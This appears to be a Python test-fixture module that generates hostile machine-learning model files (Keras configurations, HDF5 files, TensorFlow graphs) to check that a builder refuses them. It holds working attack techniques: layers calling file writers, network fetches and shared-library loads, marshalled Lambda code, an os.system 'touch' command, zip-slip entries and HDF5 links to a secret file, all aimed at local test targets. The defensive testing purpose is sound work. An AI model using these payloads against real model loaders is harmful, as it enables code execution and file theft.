"""Source models that try to read, write, fetch or run what they must not; each says what it tries.

``cases()`` gives them all. Writing one needs no TensorFlow, unless ``needs_tensorflow`` says so. The paths and the port
that an attack aims at come in a ``Target``, so that a test can see whether anything got there. None of them harms more
than its target.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from builder.sources.graphdef import messages

DT_FLOAT, DT_STRING = 1, 7


@dataclass(frozen=True, slots=True)
class Target:
    """What attacks aim at.

    Attributes:
        folder: a folder outside the model's; whatever appears or changes in it is an effect.
        port: of a listener on 127.0.0.1; a connection is an effect.
        secret: a file in another folder, to be read.
        library: a shared library whose constructor writes ``folder/library``.
    """

    folder: Path
    port: int
    secret: Path
    library: Path

    def file(self, name: str = "written") -> str:
        """Give the path of a file that an attack makes."""
        return str(self.folder / name)

    def url(self, name: str = "stolen") -> str:
        """Give a URL of the listener."""
        return f"http://127.0.0.1:{self.port}/{name}"


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile source.

    Attributes:
        name: of the case, usable as a file name.
        tries: what it tries, in a few words.
        write: makes the source in a folder, and gives what ``source`` in build.toml has to name.
        says: what the refusal has to say, a regular expression.
        settings: more lines for the model in build.toml.
        needs_tensorflow: writing it imports TensorFlow.
        dropped: it is not refused: the part that attacks is left out, and the rest builds.
        confined: ``trust = true`` does not let it through either, because it is no code but a way out of the folder.
    """

    name: str
    tries: str
    write: Callable[[Path, Target], Path]
    says: str
    settings: str = ""
    needs_tensorflow: bool = False
    dropped: bool = False
    confined: bool = False


def make_library(target: Target) -> None:
    """Compile the library that tells when it is loaded."""
    source = target.library.with_suffix(".c")
    marker = json.dumps(target.file("library"))
    action = f'FILE *f = fopen({marker}, "w"); if (f) fclose(f);'
    source.write_text(
        "#include <stdio.h>\n"
        f"__attribute__((constructor)) static void loaded(void) {{ {action} }}\n"
        "void TF_InitPlugin(void *unused) { (void)unused; }\n"
    )
    subprocess.run(["cc", "-shared", "-fPIC", "-o", str(target.library), str(source)], check=True)


# --- Keras configurations ---------------------------------------------------------------------------------------------

Layer = dict[str, Any]


def keras2_layer(kind: str, config: dict[str, Any], *calls: Any, name: str = "evil") -> Layer:
    """Give a layer of a Keras 2 functional model; ``calls`` are its calls' arguments, by default the input."""
    return {
        "class_name": kind,
        "config": {"name": name, "trainable": True, "dtype": "float32", **config},
        "name": name,
        "inbound_nodes": list(calls) or [[["x", 0, 0, {}]]],
    }


def constant(value: Any, **keywords: Any) -> list[Any]:
    """Give the call of a ``TFOpLambda`` with a first argument that is no tensor."""
    return ["_CONSTANT_VALUE", -1, value, keywords]


def op_lambda(function: str, *calls: Any, kind: str = "TFOpLambda", **more: Any) -> Layer:
    """Give a layer that calls a function of TensorFlow's API."""
    return keras2_layer(kind, {"function": function, **more}, *calls)


def keras2(*layers: Layer, output: str = "x_out") -> dict[str, Any]:
    """Give a Keras 2 functional model: x → Flatten → output, and layers beside it."""
    start = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "x"},
        "name": "x",
        "inbound_nodes": [],
    }
    flat = keras2_layer("Flatten", {"data_format": "channels_last"}, name="x_out")
    return {
        "class_name": "Functional",
        "config": {
            "name": "model",
            "trainable": True,
            "layers": [start, *layers, flat],
            "input_layers": [["x", 0, 0]],
            "output_layers": [[output, 0, 0]],
        },
    }


def sequential(*layers: Layer) -> dict[str, Any]:
    """Give a Keras 2 Sequential model of layers."""
    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "inner"},
                },
                *layers,
            ],
        },
    }


def nested(*layers: Layer) -> Layer:
    """Give a Keras 2 functional model as a layer of another."""
    inside = keras2(*layers)
    inside["config"]["name"] = "inside"
    return {**inside, "name": "inside", "inbound_nodes": [[["x", 0, 0, {}]]]}


def packed(config: dict[str, Any]) -> dict[str, Any]:
    """Give a Keras 2 functional model as ``.keras`` files have it."""
    return {**config, "module": "keras.src.engine.functional", "registered_name": "Functional"}


def compiled(compile_config: dict[str, Any], *, inside: bool) -> dict[str, Any]:
    """Give a Keras 3 functional model with a Sequential in it, one of which is compiled."""
    start = keras3_layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32"}, name="x")
    tensor = keras_object(
        None, "__keras_tensor__", {"shape": [None, 4], "dtype": "float32", "keras_history": ["x", 0, 0]}
    )
    inner = keras3(**({"compile_config": compile_config} if inside else {}))
    config = {
        "name": "model",
        "trainable": True,
        "layers": [
            {**start, "name": "x", "inbound_nodes": []},
            {**inner, "name": "sequential", "inbound_nodes": [{"args": [tensor], "kwargs": {}}]},
        ],
        "input_layers": [["x", 0, 0]],
        "output_layers": [["sequential", 0, 0]],
    }
    more = {} if inside else {"compile_config": compile_config}
    return {**keras_object("keras.src.models.functional", "Functional", config, "Functional"), **more}


def keras3(*layers: Layer, **more: Any) -> dict[str, Any]:
    """Give a Keras 3 Sequential model of layers."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": policy(),
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "x"},
                    "registered_name": None,
                },
                *layers,
                keras3_layer("Flatten", {}, name="x_out"),
            ],
        },
        "registered_name": None,
        **more,
    }


def keras3_layer(
    kind: str, config: dict[str, Any], *, module: Any = "keras.layers", name: str = "evil", **more: Any
) -> Layer:
    """Give a layer, or anything that claims to be one, as Keras 3 saves it."""
    return {
        "module": module,
        "class_name": kind,
        "config": {"name": name, "trainable": True, "dtype": policy(), **config},
        "registered_name": None,
        **more,
    }


def keras_object(module: Any, kind: str, config: Any, registered: Any = None) -> dict[str, Any]:
    """Give an object as Keras 3 saves it."""
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered}


def policy() -> dict[str, Any]:
    return keras_object("keras", "DTypePolicy", {"name": "float32"})


def write_h5(path: Path, config: Any, version: str = "2.15.0", backend: str = "tensorflow") -> Path:
    """Write a model without weights into an HDF5 file."""
    import h5py

    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = version
        file.attrs["backend"] = backend
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([], "S1")
        weights.attrs["keras_version"] = version
        weights.attrs["backend"] = backend
    return path


def write_keras(path: Path, config: Any, version: str = "3.5.0", extra: dict[str, bytes] | None = None) -> Path:
    """Write a model without weights into a ``.keras`` file."""
    import h5py

    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file.create_group("layers")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": version, "date_saved": "2026-11-28@00:00:00"}))
        archive.writestr("model.weights.h5", weights.getvalue())
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return path


def write_layers_json(folder: Path, config: Any) -> Path:
    """Write a TensorFlow.js layers model without weights."""
    path = folder / "model.json"
    topology = {"keras_version": "2.15.0", "backend": "tensorflow", "model_config": config}
    path.write_text(
        json.dumps({"format": "layers-model", "modelTopology": topology, "weightsManifest": [dense_weights(folder)]})
    )
    return path


def dense_weights(folder: Path) -> dict[str, Any]:
    (folder / "weights.bin").write_bytes(np.eye(4, dtype=np.float32).tobytes())
    return {
        "paths": ["weights.bin"],
        "weights": [{"name": "dense/kernel", "shape": [4, 4], "dtype": "float32"}],
    }


def dense() -> Layer:
    config = {"units": 4, "use_bias": False, "activation": "linear"}
    return keras2_layer("Dense", config, name="dense")


MakeConfig = Callable[[Target], Any]
measured = 'precision = "small"'


def h5_case(name: str, tries: str, config: MakeConfig, says: str, **more: Any) -> Case:
    return Case(name, tries, lambda folder, target: write_h5(folder / "m.h5", config(target)), says, **more)


def zip_case(name: str, tries: str, config: MakeConfig, says: str, version: str = "3.5.0", **more: Any) -> Case:
    return Case(
        name, tries, lambda folder, target: write_keras(folder / "m.keras", config(target), version), says, **more
    )


def json_case(name: str, tries: str, config: MakeConfig, says: str, **more: Any) -> Case:
    return Case(
        name,
        tries,
        lambda folder, target: write_layers_json(folder, config(target)),
        says,
        settings=measured,
        **more,
    )


def _writer(function: str) -> Callable[[Target], Layer]:
    return lambda target: op_lambda(function, constant(target.file()))


def _fetch(target: Target) -> Layer:
    return op_lambda(
        "keras.utils.get_file",
        constant("fetched", origin=target.url(), cache_dir=str(target.folder), cache_subdir="."),
    )


def _plugin(target: Target) -> Layer:
    return op_lambda("experimental.register_filesystem_plugin", constant(str(target.library)))


def keras2_cases() -> list[Case]:
    """Give the attacks by configurations of Keras 2."""
    record = _writer("io.TFRecordWriter")
    calls = r"calls tf\."
    return [
        h5_case(
            "record-writer-v1",
            "opens a file for writing through the API of TensorFlow 1",
            lambda t: keras2(_writer("compat.v1.python_io.TFRecordWriter")(t)),
            r"calls tf\.compat\.v1\.python_io\.TFRecordWriter",
        ),
        h5_case(
            "record-writer", "opens a file for writing", lambda t: keras2(record(t)), r"calls tf\.io\.TFRecordWriter"
        ),
        zip_case(
            "record-writer-zip",
            "the same in a .keras file that picks tf_keras",
            lambda t: packed(keras2(record(t))),
            calls,
            "2.15.0",
        ),
        json_case(
            "record-writer-json",
            "the same in a TensorFlow.js model whose precision is measured",
            lambda t: keras2(record(t), dense(), output="dense"),
            calls,
        ),
        h5_case(
            "get-file",
            "fetches over HTTP and writes what came",
            lambda t: keras2(_fetch(t)),
            r"calls tf\.keras\.utils\.get_file",
        ),
        json_case(
            "get-file-json",
            "the same in a TensorFlow.js model",
            lambda t: keras2(_fetch(t), dense(), output="dense"),
            calls,
        ),
        h5_case(
            "plugin",
            "loads a shared library",
            lambda t: keras2(_plugin(t)),
            r"calls tf\.experimental\.register_filesystem_plugin",
        ),
        h5_case(
            "load-op-library",
            "loads a shared library",
            lambda t: keras2(op_lambda("load_op_library", constant(str(t.library)))),
            calls,
        ),
        h5_case(
            "gfile-v1",
            "opens a file through the API of TensorFlow 1",
            lambda t: keras2(op_lambda("compat.v1.gfile.MakeDirs", constant(t.file("made")))),
            calls,
        ),
        h5_case(
            "raw-op",
            "writes a file by a raw op",
            lambda t: keras2(op_lambda("raw_ops.WriteFile", ["_CONSTANT_VALUE", -1, t.file(), {"contents": "x"}])),
            calls,
        ),
        h5_case(
            "write-file",
            "writes a file",
            lambda t: keras2(op_lambda("io.write_file", constant(t.file(), contents="x"))),
            calls,
        ),
        h5_case(
            "log-file",
            "opens a log of events",
            lambda t: keras2(op_lambda("summary.create_file_writer", constant(t.file("log")))),
            calls,
        ),
        h5_case("in-model", "opens a file from a model inside the model", lambda t: keras2(nested(record(t))), calls),
        h5_case(
            "in-sequential",
            "opens a file from a model inside models inside the model",
            lambda t: keras2(
                {**sequential(nested(record(t))), "name": "sequential", "inbound_nodes": [[["x", 0, 0, {}]]]}
            ),
            calls,
        ),
        h5_case(
            "in-wrapper",
            "opens a file from a layer inside a wrapper",
            lambda t: keras2(keras2_layer("TimeDistributed", {"layer": nested(record(t))})),
            calls,
        ),
        h5_case(
            "in-list",
            "opens a file from a layer hidden in lists",
            lambda t: keras2(keras2_layer("StackedRNNCells", {"cells": [[[record(t)]]]})),
            calls,
        ),
        h5_case(
            "slicing-lambda",
            "opens a file through SlicingOpLambda",
            lambda t: keras2(op_lambda("io.TFRecordWriter", constant(t.file()), kind="SlicingOpLambda")),
            calls,
        ),
        h5_case(
            "op-lambda",
            "opens a file through OpLambda",
            lambda t: keras2(op_lambda("io.TFRecordWriter", constant(t.file()), kind="OpLambda")),
            r"OpLambda|TFRecordWriter",
        ),
        h5_case(
            "class-method",
            "calls a method of a class of TensorFlow's API",
            lambda t: keras2(
                keras2_layer("ClassMethod", {"cls_symbol": "summary.SummaryWriter", "method_name": "set_as_default"})
            ),
            "ClassMethod",
        ),
        h5_case(
            "instance-method",
            "calls any method of a tensor",
            lambda t: keras2(keras2_layer("InstanceMethod", {"attr_name": "__reduce__"})),
            "InstanceMethod",
        ),
        h5_case(
            "op-layer",
            "writes a file by an op of a layer",
            lambda t: keras2(
                keras2_layer(
                    "TensorFlowOpLayer",
                    {
                        "node_def": json.dumps({"name": "evil", "op": "WriteFile", "input": ["a", "b"]}),
                        "constants": {"0": t.file(), "1": "x"},
                    },
                )
            ),
            "WriteFile",
        ),
        h5_case(
            "op-layer-text",
            "the same with its node as text",
            lambda t: keras2(
                keras2_layer(
                    "TensorFlowOpLayer", {"node_def": "name: \"a\" op: 'WriteFile'", "constants": {"0": t.file()}}
                )
            ),
            "TensorFlowOpLayer|WriteFile",
        ),
        h5_case(
            "constant-value",
            "names an object in the constant that a harmless function gets",
            lambda t: keras2(
                op_lambda(
                    "math.add",
                    [
                        [
                            "x",
                            0,
                            0,
                            {
                                "y": [
                                    "_CONSTANT_VALUE",
                                    -1,
                                    {
                                        "class_name": "TFOpLambda",
                                        "config": {"name": "deep", "function": "io.TFRecordWriter"},
                                    },
                                ]
                            },
                        ]
                    ],
                )
            ),
            calls,
        ),
        h5_case(
            "type-spec",
            "makes any registered type of TensorFlow from JSON",
            lambda t: keras2(
                keras2_layer(
                    "Flatten",
                    {"spec": {"class_name": "TypeSpec", "type_spec": "tf.data.DatasetSpec", "serialized": []}},
                )
            ),
            "DatasetSpec",
        ),
        h5_case(
            "get-file-class",
            "names a function of keras.utils as a class",
            lambda t: keras2(keras2_layer("get_file", {"fname": t.file(), "origin": t.url()})),
            "get_file",
        ),
        h5_case(
            "activation-function",
            "names a helper of Keras as an activation",
            lambda t: keras2(keras2_layer("Activation", {"activation": "deserialize"})),
            "deserialize",
        ),
        h5_case(
            "activation-object",
            "names an object as an activation",
            lambda t: keras2(
                keras2_layer(
                    "Activation",
                    {
                        "activation": {
                            "class_name": "TFOpLambda",
                            "config": {"name": "inner", "function": "io.TFRecordWriter"},
                        }
                    },
                )
            ),
            calls,
        ),
        h5_case(
            "initializer",
            "has an initializer from another module",
            lambda t: keras2(
                keras2_layer(
                    "Dense",
                    {
                        "units": 4,
                        "kernel_initializer": {
                            "module": "tf_keras.src.utils.data_utils",
                            "class_name": "get_file",
                            "registered_name": None,
                            "config": {"fname": t.file("init"), "origin": t.url()},
                        },
                    },
                )
            ),
            "get_file",
        ),
        h5_case(
            "module-os",
            "names a module of Python",
            lambda t: keras2({**keras2_layer("system", {"command": f"touch {t.file()}"}), "module": "os"}),
            r"os\b",
        ),
        h5_case(
            "module-keras-utils",
            "names a function through Keras' inner modules",
            lambda t: keras2(
                {
                    **keras2_layer("get_file", {"fname": t.file("a"), "origin": t.url()}),
                    "module": "keras.src.utils.data_utils",
                    "registered_name": "get_file",
                }
            ),
            "get_file",
        ),
        h5_case(
            "module-numpy",
            "reaches a library through a module of Keras",
            lambda t: keras2(
                {**keras2_layer("np.load", {"file": str(t.secret)}), "module": "tf_keras.src.saving.saving_lib"}
            ),
            r"np\.load",
        ),
        h5_case(
            "registered-name",
            "hides a name behind a harmless class",
            lambda t: keras2(
                {**keras2_layer("Nothing", {}), "module": "keras.src.utils.data_utils", "registered_name": "get_file"}
            ),
            "Nothing|get_file",
        ),
        h5_case("lambda", "holds Python code", lambda t: keras2(_python(t)), "holds Python code"),
        h5_case(
            "lambda-in-bidirectional",
            "holds Python code inside a wrapper",
            lambda t: keras2(keras2_layer("Bidirectional", {"layer": _python(t), "backward_layer": _python(t)})),
            "holds Python code",
        ),
        h5_case(
            "vocabulary",
            "reads a file as its vocabulary",
            lambda t: keras2(keras2_layer("StringLookup", {"vocabulary": str(t.secret)})),
            "vocabulary",
        ),
        h5_case(
            "text-vocabulary",
            "reads a file as its vocabulary",
            lambda t: keras2(keras2_layer("TextVectorization", {"vocabulary": str(t.secret)})),
            "vocabulary",
        ),
        zip_case(
            "vocabulary-2",
            "reads a file as its vocabulary",
            lambda t: packed(keras2(keras2_layer("IntegerLookup", {"vocabulary": str(t.secret)}))),
            "vocabulary",
            "2.15.0",
        ),
        json_case(
            "vocabulary-json",
            "reads a file as its vocabulary",
            lambda t: keras2(keras2_layer("StringLookup", {"vocabulary": str(t.secret)}), dense(), output="dense"),
            "vocabulary",
        ),
        h5_case(
            "applications",
            "builds a whole network of Keras by name, which fetches its weights",
            lambda t: keras2({**keras2_layer("MobileNetV2", {"weights": "imagenet"}), "module": "keras.applications"}),
            "MobileNetV2",
        ),
        h5_case(
            "callback",
            "makes a callback that appends to a file",
            lambda t: keras2({**keras2_layer("CSVLogger", {"filename": t.file()}), "module": "keras.callbacks"}),
            "CSVLogger",
        ),
    ]


def _python(target: Target) -> Layer:
    import base64
    import marshal

    code = compile(f"(lambda x: (open({target.file()!r}, 'w').close(), x)[1])", "evil", "eval").co_consts[0]
    text = base64.b64encode(marshal.dumps(code)).decode()
    config = {
        "function": [text, None, None],
        "function_type": "lambda",
        "module": "evil",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }
    return keras2_layer("Lambda", config)


def _compile_config(target: Target) -> dict[str, Any]:
    writer = keras_object("keras.callbacks", "BackupAndRestore", {"backup_dir": target.file()})
    return {"optimizer": writer, "loss": "mse", "metrics": None}


def keras3_cases() -> list[Case]:
    """Give the attacks by configurations of Keras 3."""
    get_file = {"fname": "a", "origin": "http://127.0.0.1/"}
    return [
        zip_case(
            "k3-get-file",
            "names a function of keras.utils as a class",
            lambda t: keras3(
                keras3_layer("get_file", {"fname": t.file("k3"), "origin": t.url()}, module="keras.utils")
            ),
            "get_file",
        ),
        zip_case(
            "k3-get-file-src",
            "names it through an inner module",
            lambda t: keras3(keras3_layer("get_file", {"origin": t.url()}, module="keras.src.utils.file_utils")),
            "get_file",
        ),
        zip_case(
            "k3-get-file-activation",
            "names it as a function in an activation",
            lambda t: keras3(
                keras3_layer(
                    "Activation", {"activation": keras_object("keras.utils", "function", "get_file", "get_file")}
                )
            ),
            "get_file",
        ),
        zip_case(
            "k3-builtins",
            "names a function of Python itself",
            lambda t: keras3(
                keras3_layer("Activation", {"activation": keras_object("builtins", "function", "eval", "function")})
            ),
            "eval",
        ),
        zip_case(
            "k3-lambda",
            "holds Python code",
            lambda t: keras3(
                keras3_layer(
                    "Lambda",
                    {
                        "function": keras_object(
                            "builtins",
                            "__lambda__",
                            {"code": _python(t)["config"]["function"][0], "defaults": None, "closure": None},
                        )
                    },
                )
            ),
            "holds Python code",
        ),
        zip_case(
            "k3-lambda-activation",
            "holds Python code as an activation",
            lambda t: keras3(
                keras3_layer(
                    "Dense",
                    {
                        "units": 4,
                        "activation": keras_object(
                            None,
                            "__lambda__",
                            {"code": _python(t)["config"]["function"][0], "defaults": None, "closure": None},
                        ),
                    },
                )
            ),
            "holds Python code",
        ),
        zip_case(
            "k3-tfsm",
            "loads another SavedModel from a path",
            lambda t: keras3(keras3_layer("TFSMLayer", {"filepath": str(t.folder), "call_endpoint": "serve"})),
            "loads another SavedModel",
        ),
        zip_case(
            "k3-torch",
            "holds pickled code",
            lambda t: keras3(
                keras3_layer("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": "x"}}})
            ),
            "pickled",
        ),
        zip_case(
            "k3-jax", "holds a program of JAX", lambda t: keras3(keras3_layer("JaxLayer", {"call_fn": "x"})), "JAX"
        ),
        zip_case(
            "k3-feature-space",
            "makes lookups from files by FeatureSpace",
            lambda t: keras3(
                keras3_layer("FeatureSpace", {"features": {"a": {"vocabulary": str(t.secret)}}}, module="keras.utils")
            ),
            "FeatureSpace",
        ),
        zip_case(
            "k3-vocabulary",
            "reads a file as its vocabulary",
            lambda t: keras3(keras3_layer("StringLookup", {"vocabulary": str(t.secret)})),
            "vocabulary",
        ),
        zip_case(
            "k3-text-vocabulary",
            "reads a file as its vocabulary",
            lambda t: keras3(keras3_layer("TextVectorization", {"vocabulary": str(t.secret)})),
            "vocabulary",
        ),
        zip_case(
            "k3-idf",
            "reads a file as its weights",
            lambda t: keras3(keras3_layer("TextVectorization", {"vocabulary": ["a"], "idf_weights": str(t.secret)})),
            "idf_weights",
        ),
        zip_case(
            "k3-initializer",
            "has an initializer that is something else",
            lambda t: keras3(
                keras3_layer(
                    "Dense",
                    {
                        "units": 4,
                        "kernel_initializer": keras_object("keras.utils", "get_file", {**get_file, "origin": t.url()}),
                    },
                )
            ),
            "get_file",
        ),
        zip_case(
            "k3-policy",
            "has a dtype policy that is something else",
            lambda t: keras3(
                keras3_layer(
                    "Dense", {"units": 4, "dtype": keras_object("keras.callbacks", "CSVLogger", {"filename": t.file()})}
                )
            ),
            "CSVLogger",
        ),
        zip_case(
            "k3-build-config",
            "has an object in its build_config",
            lambda t: keras3(
                keras3_layer(
                    "Dense",
                    {"units": 4},
                    build_config={
                        "input_shape": keras_object("keras.utils", "get_file", {**get_file, "origin": t.url()})
                    },
                )
            ),
            "get_file",
        ),
        zip_case(
            "k3-model-from-file",
            "loads another model by a function of keras.saving",
            lambda t: keras3(keras3_layer("load_model", {"filepath": str(t.secret)}, module="keras.saving")),
            "load_model",
        ),
        zip_case(
            "k3-package",
            "names a package that is not Keras",
            lambda t: keras3(keras3_layer("Evil", {}, module="keras_hub.src.utils")),
            "keras_hub",
        ),
        zip_case(
            "k3-sub-build",
            "hides an object beside the parts that Keras documents",
            lambda t: keras3(
                keras3_layer(
                    "Dense",
                    {"units": 4},
                    inbound_nodes=[{"args": [keras_object("keras.utils", "get_file", {})], "kwargs": {}}],
                )
            ),
            "get_file",
        ),
        zip_case(
            "k3-typespec",
            "makes any class by __typespec__",
            lambda t: keras3(
                keras3_layer(
                    "Dense",
                    {
                        "units": 4,
                        "spec": {
                            "class_name": "__typespec__",
                            "spec_name": "get_file",
                            "registered_name": None,
                            "module": "keras.src.utils.file_utils",
                            "config": [],
                        },
                    },
                )
            ),
            "file_utils",
        ),
        zip_case(
            "k3-compile-config",
            "makes an optimiser of something else in a model inside the model",
            lambda t: compiled(_compile_config(t), inside=True),
            "",
            dropped=True,
        ),
        zip_case(
            "k3-compile-top",
            "makes an optimiser of something else",
            lambda t: compiled(_compile_config(t), inside=False),
            "",
            dropped=True,
        ),
        Case(
            "k3-h5",
            "names a function in a Keras 3 HDF5 file",
            lambda folder, t: write_h5(
                folder / "m.h5", keras3(keras3_layer("get_file", {"origin": t.url()}, module="keras.utils")), "3.5.0"
            ),
            "get_file",
        ),
        Case(
            "k3-op",
            "names an Operation that is none",
            lambda folder, t: write_keras(
                folder / "m.keras", keras3(keras3_layer("Path", {}, module="keras.src.utils.file_utils"))
            ),
            "Path",
        ),
        Case(
            "zip-slip",
            "has an entry outside its folder",
            lambda folder, t: write_keras(folder / "m.keras", keras3(), extra={"../../outside.txt": b"x"}),
            "outside its folder",
            confined=True,
        ),
        Case(
            "zip-assets",
            "has an absolute entry",
            lambda folder, t: write_keras(folder / "m.keras", keras3(), extra={t.file("zip"): b"x"}),
            "outside its folder",
            confined=True,
        ),
    ]


# --- HDF5 that reaches out --------------------------------------------------------------------------------------------


def _hdf5(change: Callable[[Any, Target], None]) -> Callable[[Path, Target], Path]:
    def write(folder: Path, target: Target) -> Path:
        import h5py

        path = write_h5(folder / "m.h5", keras2(dense(), output="dense"))
        with h5py.File(path, "r+") as file:
            change(file, target)
        return path

    return write


def _external_link(file: Any, target: Target) -> None:
    import h5py

    file["model_weights/dense"] = h5py.ExternalLink(str(target.secret), "/")


def _external_storage(file: Any, target: Target) -> None:
    file["model_weights"].create_dataset("w", (4,), "u1", external=[(str(target.secret), 0, 4)])


def _virtual(file: Any, target: Target) -> None:
    import h5py

    layout = h5py.VirtualLayout((4,), "u1")
    layout[:] = h5py.VirtualSource(str(target.secret), "w", (4,))
    file["model_weights"].create_virtual_dataset("w", layout)


def _soft_to_external(file: Any, target: Target) -> None:
    import h5py

    file["out"] = h5py.ExternalLink(str(target.secret), "/")
    file["model_weights/dense"] = h5py.SoftLink("/out/w")


def hdf5_cases() -> list[Case]:
    """Give the HDF5 files that take their data from elsewhere."""
    return [
        Case(
            "h5-link",
            "takes a weight from another file by a link",
            _hdf5(_external_link),
            "in another file",
            confined=True,
        ),
        Case(
            "h5-storage",
            "takes the bytes of a weight from another file",
            _hdf5(_external_storage),
            "in another file",
            confined=True,
        ),
        Case(
            "h5-virtual",
            "takes a weight from another file by a virtual dataset",
            _hdf5(_virtual),
            "in another file",
            confined=True,
        ),
        Case(
            "h5-soft",
            "takes a weight from another file by a link to a link",
            _hdf5(_soft_to_external),
            "in another file",
            confined=True,
        ),
    ]


# --- graphs -----------------------------------------------------------------------------------------------------------


def string(node: Any, value: str, key: str = "value") -> None:
    """Make a node a constant string."""
    node.attr[key].tensor.dtype = DT_STRING
    node.attr[key].tensor.tensor_shape.SetInParent()
    node.attr[key].tensor.string_val.append(value.encode())
    node.attr["dtype"].type = DT_STRING


def text(graph: Any, name: str, value: str) -> None:
    """Add a constant string to the nodes of a graph or function."""
    string(graph.add(name=name, op="Const"), value)


def plain_graph() -> Any:
    """Give a graph y = relu(x)."""
    graph = messages().GraphDef()
    graph.versions.producer = 1882
    x = graph.node.add(name="x", op="Placeholder")
    x.attr["dtype"].type = DT_FLOAT
    x.attr["shape"].shape.dim.add(size=-1)
    x.attr["shape"].shape.dim.add(size=4)
    y = graph.node.add(name="y", op="Relu", input=["x"])
    y.attr["T"].type = DT_FLOAT
    return graph


def write_file(graph: Any, target: Target, name: str = "evil") -> None:
    text(graph, f"{name}_path", target.file())
    text(graph, f"{name}_words", "executed")
    graph.add(name=name, op="WriteFile", input=[f"{name}_path", f"{name}_words"])


Attack = Callable[[Any, Target], None]


def attack_write(graph: Any, target: Target) -> None:
    write_file(graph.node, target)
    graph.node[1].input.append("^evil")


def attack_read(graph: Any, target: Target) -> None:
    text(graph.node, "path", str(target.secret))
    graph.node.add(name="evil", op="ReadFile", input=["path"])
    graph.node[1].input.append("^evil")


def attack_fetch(graph: Any, target: Target) -> None:
    text(graph.node, "path", target.url().replace("http://", "gs://"))
    graph.node.add(name="evil", op="ReadFile", input=["path"])
    graph.node[1].input.append("^evil")


def attack_print(graph: Any, target: Target) -> None:
    text(graph.node, "words", "executed")
    node = graph.node.add(name="evil", op="PrintV2", input=["words"])
    node.attr["output_stream"].s = f"file://{target.file()}".encode()
    graph.node[1].input.append("^evil")


def attack_debug(graph: Any, target: Target) -> None:
    node = graph.node.add(name="evil", op="DebugIdentityV3", input=["x"])
    node.attr["T"].type = DT_FLOAT
    node.attr["tensor_name"].s = b"x:0"
    node.attr["debug_urls"].list.s.append(f"file://{target.folder}".encode())
    graph.node[1].input[0] = "evil"


def attack_summary(graph: Any, target: Target) -> None:
    writer = graph.node.add(name="writer", op="SummaryWriter")
    writer.attr["shared_name"].s = b"w"
    text(graph.node, "logs", str(target.folder))
    for name, number in (("queue", 1), ("flush", 1)):
        string_free = graph.node.add(name=name, op="Const")
        string_free.attr["dtype"].type = 3
        string_free.attr["value"].tensor.dtype = 3
        string_free.attr["value"].tensor.int_val.append(number)
    text(graph.node, "suffix", ".evil")
    graph.node.add(name="evil", op="CreateSummaryFileWriter", input=["writer", "logs", "queue", "flush", "suffix"])
    graph.node[1].input.append("^evil")


def attack_remote(graph: Any, target: Target) -> None:
    text(graph.node, "address", f"grpc://127.0.0.1:{target.port}")
    node = graph.node.add(name="evil", op="RpcClient", input=["address"])
    node.attr["shared_name"].s = b"r"
    graph.node[1].input.append("^evil")


def attack_mapped(graph: Any, target: Target) -> None:
    node = graph.node.add(name="evil", op="ImmutableConst")
    node.attr["dtype"].type = DT_FLOAT
    node.attr["memory_region_name"].s = str(target.secret).encode()
    node.attr["shape"].shape.dim.add(size=1)
    graph.node[1].op = "AddV2"
    graph.node[1].input.append("evil")


def attack_python(graph: Any, target: Target) -> None:
    node = graph.node.add(name="evil", op="PyFunc", input=["x"])
    node.attr["token"].s = b"pyfunc_0"
    node.attr["Tin"].list.type.append(DT_FLOAT)
    node.attr["Tout"].list.type.append(DT_FLOAT)
    graph.node[1].input[0] = "evil"


def attack_unknown(graph: Any, target: Target) -> None:
    graph.node.add(name="evil", op="Fact>Whatever")
    graph.node[1].input.append("^evil")


def attack_branch(graph: Any, target: Target) -> None:
    for name in ("then", "other"):
        function = graph.library.function.add()
        function.signature.name = name
        argument = function.signature.input_arg.add(name="x", type=DT_FLOAT)
        function.signature.output_arg.add(name="y", type=argument.type)
        node = function.node_def.add(name="same", op="Identity", input=["x"])
        node.attr["T"].type = DT_FLOAT
        function.ret["y"] = "same:output:0"
        if name == "then":
            write_file(function.node_def, target)
            # functions name the outputs of their nodes
            function.node_def[-1].input[:] = ["evil_path:output:0", "evil_words:output:0"]
            node.input.append("^evil")
    condition = graph.node.add(name="yes", op="Const")
    condition.attr["dtype"].type = 10
    condition.attr["value"].tensor.dtype = 10
    condition.attr["value"].tensor.tensor_content = b"\x01"
    choice = graph.node.add(name="choice", op="If", input=["yes", "x"])
    choice.attr["Tcond"].type = 10
    choice.attr["Tin"].list.type.append(DT_FLOAT)
    choice.attr["Tout"].list.type.append(DT_FLOAT)
    choice.attr["then_branch"].func.name = "then"
    choice.attr["else_branch"].func.name = "other"
    graph.node[1].input[0] = "choice"


attacks: dict[str, tuple[Attack, str, str]] = {
    "write": (attack_write, "writes a file", "WriteFile"),
    "read": (attack_read, "reads a file", "ReadFile"),
    "fetch": (attack_fetch, "reads from the network", "ReadFile"),
    "print": (attack_print, "prints into a file", "PrintV2"),
    "debug": (attack_debug, "dumps a tensor into a folder", "DebugIdentityV3"),
    "summary": (attack_summary, "opens a log of events", "Summary(File)?Writer"),
    "remote": (attack_remote, "connects to a server", "RpcClient"),
